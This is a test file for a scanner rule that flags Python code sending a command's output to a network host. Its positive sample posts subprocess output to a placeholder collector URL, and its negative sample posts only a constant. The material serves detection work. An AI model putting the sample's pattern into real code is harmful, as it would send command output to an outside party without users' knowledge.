import { testRule } from '../../../../../test/builders/python-package.ts';
import { outputExfiltration } from './rule.ts';

testRule(outputExfiltration, {
  seen: {
    'what a command prints':
      "import subprocess, requests\nrequests.post('https://collector.example.invalid', data=subprocess.check_output(['demo']))",
  },
  unseen: {
    'a constant':
      "import subprocess, requests\nsubprocess.check_output(['demo'])\nrequests.post('https://collector.example.invalid', data='x')",
  },
});
